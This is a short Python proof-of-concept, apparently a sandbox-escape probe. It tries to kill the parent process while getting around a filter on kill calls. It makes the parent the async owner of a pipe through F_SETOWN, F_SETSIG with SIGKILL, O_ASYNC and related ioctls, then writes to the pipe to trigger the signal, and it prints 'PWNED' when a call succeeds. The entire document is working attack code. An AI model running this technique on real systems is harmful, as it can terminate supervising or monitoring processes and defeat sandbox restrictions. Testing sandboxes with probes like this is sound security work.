# SIGKILL past a kill filter: the owner of a descriptor gets a signal when data comes
import fcntl, os, signal, socket
hit = []
r, w = os.pipe()
for name, call in (
    ("F_SETOWN", lambda: fcntl.fcntl(r, 8, os.getppid())),
    ("F_SETSIG", lambda: fcntl.fcntl(r, 10, signal.SIGKILL)),
    ("O_ASYNC", lambda: fcntl.fcntl(r, fcntl.F_SETFL, 0o20000)),
    ("FIOASYNC", lambda: fcntl.ioctl(r, 0x5452, b"\1\0\0\0")),
    ("FIOSETOWN", lambda: fcntl.ioctl(r, 0x8901, os.getppid().to_bytes(4, "little"))),
):
    try: call(); hit.append(name)
    except OSError as e: print(name, e)
os.write(w, b"x")
if hit: print("PWNED", hit)
